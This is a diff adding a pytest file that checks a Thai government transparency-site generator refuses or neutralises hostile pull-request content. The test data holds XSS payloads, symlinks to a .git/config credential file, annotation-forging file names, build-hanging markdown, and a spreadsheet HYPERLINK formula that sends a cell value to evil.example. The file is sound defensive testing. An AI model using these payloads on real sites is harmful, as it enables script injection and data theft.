@@ -1,0 +1,445 @@
+"""Untrusted pull requests: one test per class of attack (see tests/test_injection.py for the
+schema-driven test of every text field). Each attack is refused with a clear error, or
+neutralised, never with a traceback."""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import re
+import zipfile
+from pathlib import Path
+
+import pytest
+from openpyxl import Workbook, load_workbook
+from openpyxl.worksheet.worksheet import Worksheet
+
+from conftest import MakeProject, run_oit
+from generator.errors import DataError
+from generator.model import tables
+from generator.model.project import load_project
+from generator.site.render import render_site
+
+NEWS = "data/2569/oit/o04-news.yml"
+
+
+def errors(root: Path) -> list[str]:
+    try:
+        project = load_project(root)
+    except DataError as exc:
+        return [p.format() for p in exc.problems if p.severity == "error"]
+    assert project is not None
+    return []
+
+
+def body(markdown: str) -> str:
+    indented = "".join(f"      {line}\n" for line in markdown.splitlines())
+    return f"blocks:\n  - type: text\n    element: news\n    body: |\n{indented}"
+
+
+# -- files published from content/ ---------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "message"),
+    [
+        (
+            "files/x.html",
+            b"<script>alert(1)</script>",
+            'files of type ".html" are not published',
+        ),
+        ("files/x.js", b"alert(1)", 'files of type ".js" are not published'),
+        ("files/logo.svg", b"<svg onload=alert(1)>", 'files of type ".svg" are not published'),
+        ("files/feed.xml", b"<x/>", 'files of type ".xml" are not published'),
+        ("files/page.htm", b"<p>", 'files of type ".htm" are not published'),
+        (
+            "files/photo.png",
+            b"<html><script>alert(1)</script>",
+            'this file is named "photo.png" but is not in PNG format',
+        ),
+        (
+            "files/report.pdf",
+            b"<!doctype html><script>alert(1)</script>",
+            'this file is named "report.pdf" but is not in PDF format',
+        ),
+        (
+            "files/data.csv",
+            b"\xef\xbb\xbf <svg onload=alert(1)>",
+            "this CSV file holds web page or SVG/XML markup",
+        ),
+        ("files/x#1.pdf", b"%PDF-1.4", "holds a character that does not work in a web address"),
+        ("files/x?.pdf", b"%PDF-1.4", "holds a character that does not work in a web address"),
+        ("files/100%.pdf", b"%PDF-1.4", "holds a character that does not work in a web address"),
+    ],
+)
+def test_content_publishes_documents_and_pictures_only(
+    make_project: MakeProject, name: str, data: bytes, message: str
+) -> None:
+    root = make_project({f"content/{name}": data})
+    found = errors(root)
+    assert len(found) == 1 and found[0].startswith(f"content/{name}:1:1: error: "), found
+    assert message in found[0]
+
+
+def test_a_file_name_with_a_line_break_cannot_forge_annotations(
+    make_project: MakeProject,
+) -> None:
+    root = make_project({"content/files/x\n::error file=a::forged.pdf": b"%PDF-1.4"})
+    result = run_oit("check", "--format", "github", "--project", root)
+    assert result.returncode == 1
+    forged = [line for line in result.stdout.splitlines() if "forged" in line]
+    assert forged == [
+        "::error file=content/files/x\\n%3A%3Aerror file=a%3A%3Aforged.pdf,line=1,col=1::"
+        'the name "x\\n::error file=a::forged.pdf" holds a character that does not work in '
+        "a web address (#, ?, %25, \\ or a control character). Rename it with letters, "
+        "digits, - and _ only, e.g. o11-2569-10.pdf."
+    ]
+
+
+def test_links_must_stay_in_their_own_folder(make_project: MakeProject) -> None:
+    root = make_project({"content/files/real.pdf": b"%PDF-1.4"})
+    (root / ".git").mkdir()
+    (root / ".git/config").write_text("[credential] token=secret\n", encoding="utf-8")
+    (root / "content/files/notes.txt").symlink_to(root / ".git/config")
+    (root / "content/files/inside.pdf").symlink_to("real.pdf")  # relative, inside: fine
+    (root / "content/files/loop.pdf").symlink_to("loop.pdf")
+    (root / "data/2569/oit").mkdir()
+    (root / "data/2569/oit/o05-plan.yml").symlink_to(root / "mkdocs.yml")
+    assert errors(root) == [
+        "content/files/loop.pdf:1:1: error: this link leads nowhere (its target is missing, "
+        "or it leads back to itself). Replace the link with the file itself.",
+        "content/files/notes.txt:1:1: error: this is a link to .git/config, outside content/; "
+        "only files of content/ may be published. Copy the file here instead of linking to it.",
+        "data/2569/oit/o05-plan.yml:1:1: error: this is a link to mkdocs.yml, outside data/; "
+        "only files of data/ may be read. Copy the file here instead of linking to it.",
+    ]
+
+
+def test_a_document_that_is_a_loop_of_links_is_an_error(make_project: MakeProject) -> None:
+    root = make_project(
+        {
+            NEWS: "blocks:\n  - type: documents\n    element: news\n    documents:\n"
+            "      - {title: ข่าว, file: files/loop.pdf}\n"
+        }
+    )
+    (root / "content/files").mkdir()
+    (root / "content/files/loop.pdf").symlink_to("loop.pdf")
+    found = errors(root)
+    assert "content/files/loop.pdf:1:1: error: this link leads nowhere" in found[0]
+    assert (
+        'error: block 1, document 1: "content/files/loop.pdf" is a link that leads back'
+        in (found[1])
+    )
+
+
+def test_a_year_folder_in_thai_digits_is_an_error(make_project: MakeProject) -> None:
+    root = make_project({"data/๒๕๖๙/year.yml": "checklist: ita-2569\n"})
+    assert errors(root) == [
+        "data/๒๕๖๙:1:1: error: a fiscal-year folder must be named with Arabic digits; "
+        "data/2569/ is there too. Move its files into data/2569/ and delete this folder."
+    ]
+
+
+# -- links and images, after Markdown parses -----------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "markdown",
+    [
+        "> [x]: javascript:alert(1)\n>\n> see [x]",
+        "* item [x]\n\n    [x]: javascript:alert(1)",
+        "!!! note\n\n    [x]\n\n    [x]: javascript:alert(1)",
+        "[x](&#x6A;avascript:alert(1))",
+        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+        "[x]( vbscript:msgbox(1))",
+    ],
+)
+def test_data_markdown_links_are_checked_as_the_site_parses_them(
+    make_project: MakeProject, markdown: str
+) -> None:
+    found = errors(make_project({NEWS: body(markdown)}))
+    assert len(found) == 1 and " may not use " in found[0], found
+    assert found[0].startswith(f"{NEWS}:")
+
+
+def test_images_from_other_sites_only_where_the_agency_allows(make_project: MakeProject) -> None:
+    tracker = body("![](https://tracker.example.com/pixel.gif)")
+    found = errors(make_project({NEWS: tracker}, "one"))
+    assert found == [
+        f'{NEWS}:4:11: error: block 1: the image "https://tracker.example.com/pixel.gif" '
+        "comes from another site (tracker.example.com), which would learn who reads the "
+        "page. Put the image under content/files/ and write its path, or allow that site "
+        "under settings: image_hosts: in data/agency.yml."
+    ]
+    allowed = make_project({NEWS: tracker}, "two")
+    agency = allowed / "data/agency.yml"
+    agency.write_text(
+        agency.read_text(encoding="utf-8") + "settings:\n  image_hosts: [tracker.example.com]\n",
+        encoding="utf-8",
+    )
+    assert errors(allowed) == []
+
+
+# -- hand-written pages ----------------------------------------------------------------------
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(
+    ("page", "refused"),
+    [
+        ("# About\n\n<script>alert(1)</script>\n", "a <script> element"),
+        ('# About\n\n<p onclick="alert(1)">x</p>\n', "the attribute onclick on <p>"),
+        ("# About\n\n> [x]: javascript:alert(1)\n>\n> [x]\n", 'may not use "javascript:"'),
+        ('# About\n\n<a href="javascript:alert(1)">x</a>\n', 'may not use "javascript:"'),
+        ("# About\n\n![x](https://tracker.example.com/p.gif)\n", "comes from another site"),
+        (
+            "---\ntemplate: redirect.html\nlocation: '\");alert(1)//'\n---\n# About\n",
+            "front matter key `template`",
+        ),
+    ],
+)
+def test_a_hand_written_page_publishes_no_script(
+    make_project: MakeProject, page: str, refused: str
+) -> None:
+    root = make_project({"content/about.md": page})
+    result = run_oit("build", "--project", root)
+    output = result.stdout + result.stderr
+    assert result.returncode == 1, output
+    assert "Traceback" not in output
+    assert "content/about.md holds what the site may not publish:" in output
+    assert refused in output
+    assert not (root / "site").exists()
+
+
+@pytest.mark.slow
+def test_a_hand_written_title_is_escaped(make_project: MakeProject) -> None:
+    root = make_project({"content/about.md": '---\ntitle: "<img src=x onerror=alert(1)>"\n---\nx'})
+    assert run_oit("build", "--project", root).returncode == 0
+    page = (root / "site/about/index.html").read_text(encoding="utf-8")
+    assert "<img src=x" not in page
+    assert "&lt;img src=x onerror=alert(1)&gt;" in page
+    assert not os.path.exists(root / "site/about/x")
+
+
+# -- redirects ------------------------------------------------------------------------------
+
+
+@pytest.mark.slow
+def test_only_a_published_address_may_redirect(make_project: MakeProject) -> None:
+    root = make_project({f"data/2569/oit/o{n:02d}-item.yml": "blocks: []\n" for n in range(1, 27)})
+    assert run_oit("urls", "--update", "--project", root).returncode == 0
+    (root / "data/redirects.yml").write_text(
+        "redirects:\n  /2569/nowhere/: /2569/oit/o2/\n", encoding="utf-8"
+    )
+    result = run_oit("build", "--project", root)
+    output = result.stdout + result.stderr
+    assert result.returncode == 1, output
+    assert "Traceback" not in output
+    assert (
+        "data/redirects.yml:2:3: error: /2569/nowhere/ is not in urls.txt, so the site never "
+        "published it."
+    ) in output
+
+
+@pytest.mark.slow
+def test_a_file_redirect_never_replaces_a_published_file(make_project: MakeProject) -> None:
+    root = make_project(
+        {
+            "data/2569/oit/o11-x.yml": "blocks:\n  - type: table\n    columns: [{key: a}]\n"
+            "    rows: [{a: x}]\n",
+            "data/2569/oit/o12-x.yml": "blocks:\n  - type: table\n    columns: [{key: a}]\n"
+            "    rows: [{a: y}]\n",
+        }
+    )
+    assert run_oit("urls", "--update", "--project", root).returncode == 0
+    (root / "data/redirects.yml").write_text(
+        "redirects:\n  /assets/javascripts/oit-print.js: /2569/oit/o12/table-1.csv\n",
+        encoding="utf-8",
+    )
+    result = run_oit("build", "--project", root)
+    output = result.stdout + result.stderr
+    assert result.returncode == 1, output
+    assert (
+        "data/redirects.yml:2:3: error: /assets/javascripts/oit-print.js is still an address "
+        "of the site, so it cannot redirect."
+    ) in output
+
+
+# -- bounded work -----------------------------------------------------------------------------
+
+TABLE = "data/2569/oit/o11-procurement.yml"
+
+
+def table_file(name: str, columns: str = "") -> str:
+    return f"blocks:\n  - type: table\n    file: files/{name}\n{columns}"
+
+
+def workbook(path: Path, rows: list[list[object]], dimension: str | None = None) -> None:
+    """An XLSX file; `dimension` replaces the size the sheet claims to have."""
+    book = Workbook()
+    sheet = book.active
+    assert isinstance(sheet, Worksheet)
+    for row in rows:
+        sheet.append(row)
+    book.save(path)
+    if dimension is None:
+        return
+    with zipfile.ZipFile(path) as source:
+        members = {info.filename: source.read(info) for info in source.infolist()}
+    sheet_xml = members["xl/worksheets/sheet1.xml"].decode()
+    members["xl/worksheets/sheet1.xml"] = re.sub(
+        r'<dimension ref="[^"]*"\s*/>', f'<dimension ref="{dimension}"/>', sheet_xml
+    ).encode()
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
+        for name, data in members.items():
+            target.writestr(name, data)
+
+
+def test_an_xlsx_is_read_as_it_is_not_as_it_claims(make_project: MakeProject) -> None:
+    root = make_project({TABLE: table_file("t.xlsx")})
+    (root / "content/files").mkdir()
+    workbook(root / "content/files/t.xlsx", [["เดือน", "จำนวน"], ["ต.ค.", 1]], "A1:XFD1048576")
+    assert path_size(root / "content/files/t.xlsx") < 10_000
+    project = load_project(root)
+    [table] = project.years[2569].items[10].tables.values()
+    assert len(table.rows) == 1 and len(table.columns) == 2
+
+
+def path_size(path: Path) -> int:
+    return path.stat().st_size
+
+
+def test_an_xlsx_past_the_caps_is_refused(
+    make_project: MakeProject, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    root = make_project({TABLE: table_file("wide.xlsx")})
+    (root / "content/files").mkdir()
+    workbook(root / "content/files/wide.xlsx", [["a"], [*([None] * 300), "far"]])
+    assert errors(root) == [
+        "content/files/wide.xlsx:2:1: error: this table has 301 columns; at most 200 are "
+        "read. Split it into smaller files, e.g. one per month or per year."
+    ]
+    monkeypatch.setattr(tables, "MAX_XLSX_UNPACKED", 1000)
+    workbook(root / "content/files/wide.xlsx", [["a"], ["b"]])
+    assert errors(root)[0].startswith(
+        "content/files/wide.xlsx:1:1: error: this workbook unpacks to 0 MB; at most 0 MB are read."
+    )
+
+
+def test_a_csv_past_the_row_cap_is_refused(make_project: MakeProject) -> None:
+    root = make_project(
+        {TABLE: table_file("rows.csv"), "content/files/rows.csv": "a\n" + "x\n" * 100_001}
+    )
+    assert errors(root) == [
+        "content/files/rows.csv:100002:1: error: this table has more than 100,000 rows. "
+        "Split it into smaller files, e.g. one per month or per year."
+    ]
+
+
+@pytest.mark.parametrize(
+    ("markdown", "message"),
+    [
+        ("[" * 199_000, "this text has 199,000 [ brackets; at most 2,000."),
+        ("[a" * 300, "a paragraph of this text has 300 [ brackets; at most 200."),
+        ("# h\n" * 49_000, "this text has 49,000 headings; at most 200."),
+        ("> " * 30 + "x", "this text nests quotes or lists 37 levels deep; at most 20."),
+        ("*a " * 1500 + " a*" * 1500, "this text nests emphasis (* or _) too deeply"),
+    ],
+)
+def test_markdown_that_would_hang_the_build_is_refused(
+    make_project: MakeProject, markdown: str, message: str
+) -> None:
+    found = errors(make_project({NEWS: body(markdown)}))
+    assert len(found) == 1 and message in found[0], found
+
+
+@pytest.mark.parametrize(
+    ("value", "shown"),
+    [
+        ("9" * 5000, "9" * 40 + "…"),
+        ("1e999", "inf"),
+        ("1000000000000000", "1000000000000000"),
+    ],
+)
+def test_numbers_too_large_to_show_are_refused(
+    make_project: MakeProject, value: str, shown: str
+) -> None:
+    plan = "data/2569/plans/integrity-measures.yml"
+    found = errors(
+        make_project(
+            {plan: f"title: แผน\nmeasures:\n  - no: 1\n    title: มาตรการ\n    budget: {value}\n"}
+        )
+    )
+    assert len(found) == 1 and f'"{shown}" is not a number the site can show.' in found[0], found
+
+
+def test_a_huge_amount_in_a_csv_is_refused(make_project: MakeProject) -> None:
+    columns = "    columns: [{key: a, type: money}]\n"
+    root = make_project(
+        {TABLE: table_file("m.csv", columns), "content/files/m.csv": "a\n" + "9" * 5000 + "\n"}
+    )
+    [found] = errors(root)
+    assert "is not a number the site can show" in found
+
+
+def test_a_long_reports_lists_the_first_problems_and_a_count(make_project: MakeProject) -> None:
+    rows = "".join(f"      - {{a: x{n}}}\n" for n in range(300))
+    root = make_project(
+        {
+            TABLE: "blocks:\n  - type: table\n    columns: [{key: a, type: number}]\n    rows:\n"
+            + rows
+        }
+    )
+    result = run_oit("check", "--project", root)
+    lines = result.stdout.splitlines()
+    assert sum(": error: " in line for line in lines) == 200
+    assert "... and 100 more; fix these first (oit check --format json lists them all)." in lines
+
+
+@pytest.mark.slow
+def test_a_long_tables_pages_link_a_window_of_neighbours(make_project: MakeProject) -> None:
+    root = make_project(
+        {TABLE: table_file("long.csv"), "content/files/long.csv": "a\n" + "x\n" * 10_000}
+    )
+    assert run_oit("build", "--project", root).returncode == 0
+    page = (root / "site/2569/oit/o11/table-1/10/index.html").read_text(encoding="utf-8")
+    pager = page[page.index('class="oit-pager"') :].split("</nav>")[0]
+    numbers = re.findall(r">(\d+)</(?:a|strong)>", pager)
+    assert numbers == ["1", "7", "8", "9", "10", "11", "12", "13", "20"]
+
+
+# -- spreadsheets ---------------------------------------------------------------------------
+
+
+def test_spreadsheets_never_carry_a_live_formula(make_project: MakeProject) -> None:
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"เปิด")'
+    root = make_project(
+        {
+            TABLE: "itas_note: '" + formula.replace("'", "''") + "'\n"
+            "blocks:\n  - type: table\n    element: monthly\n"
+            "    columns: [{key: '@name'}, {key: amount, type: money}, {key: n, type: number}]\n"
+            "    rows:\n"
+            "      - {'@name': '=1+1', amount: -500, n: -2}\n"
+            "      - {'@name': '+66 2123 4567', amount: 12.5, n: 3}\n"
+            "      - {'@name': '-', amount: 1, n: 4}\n",
+        }
+    )
+    files = render_site(load_project(root)).files
+    table = str(files["2569/oit/o11/table-1.csv"]).lstrip("\ufeff")
+    assert list(csv.reader(io.StringIO(table))) == [
+        ["'@name", "amount", "n"],
+        ["'=1+1", "-500", "-2"],
+        ["'+66 2123 4567", "12.5", "3"],
+        ["-", "1", "4"],
+    ]
+    itas = list(csv.reader(io.StringIO(str(files["2569/itas/itas-2569.csv"]))))
+    [o11] = [row for row in itas if row[0] == "O11"]
+    assert o11[-1] == "'" + formula
+    workbook_bytes = files["2569/itas/itas-2569.xlsx"]
+    assert isinstance(workbook_bytes, bytes)
+    book = load_workbook(io.BytesIO(workbook_bytes))
+    sheet = book.worksheets[0]
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
+    assert all(cell.data_type == "s" for cell in cells)
+    assert "'" + formula in [cell.value for cell in cells]
